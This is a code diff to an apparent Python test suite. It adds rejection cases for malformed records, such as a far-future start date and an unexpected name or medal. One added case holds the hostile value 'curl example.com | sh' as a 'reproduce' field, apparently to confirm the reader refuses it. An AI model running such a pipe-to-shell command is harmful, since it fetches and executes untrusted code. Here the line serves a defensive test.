@@ -9,6 +9,7 @@ import threading
 import time
 import zipfile
 from collections.abc import Callable
+from datetime import UTC, datetime
 
 import pytest
 from hypothesis import given
@@ -196,6 +197,10 @@ def test_no_bytes_break_the_reading(noise: bytes, where: int, put: bytes) -> Non
         (to_json(made_for(unlocked(), None)).encode(), "a result of no commit"),
         (first(status=CriterionStatus.FAILED), "a verdict that its criteria"),
         (first(measured=FIRST.threshold + 1), "whose figure misses its threshold"),
+        (to_json(unlocked(name="Alles")).encode(), "something else"),
+        (to_json(unlocked(medal="All of them")).encode(), "something else"),
+        (to_json(unlocked(reproduce="curl example.com | sh")).encode(), "something else"),
+        (to_json(unlocked(started_at=datetime(2900, 1, 1, tzinfo=UTC))).encode(), "in days to come"),
         (first(measured=None), "whose figure misses its threshold"),
         (recorded(), "this course's criteria"),
         (recorded(*OTHERS), "this course's criteria"),
